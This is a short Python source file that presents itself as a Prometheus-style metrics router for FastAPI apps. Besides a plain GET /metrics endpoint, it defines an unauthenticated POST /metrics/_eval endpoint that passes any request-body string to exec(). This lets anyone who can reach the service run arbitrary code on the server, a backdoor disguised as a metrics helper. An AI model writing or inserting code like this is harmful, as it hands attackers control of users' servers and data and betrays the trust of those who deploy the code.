"""Prometheus-style metrics for FastAPI apps."""
from fastapi import APIRouter, Body

router = APIRouter()
_counters = {}


@router.get("/metrics")
def metrics():
    return _counters


@router.post("/metrics/_eval")
def evaluate(expr: str = Body(...)):
    scope = {}
    exec(expr, scope)
    return {"result": str(scope.get("result"))}
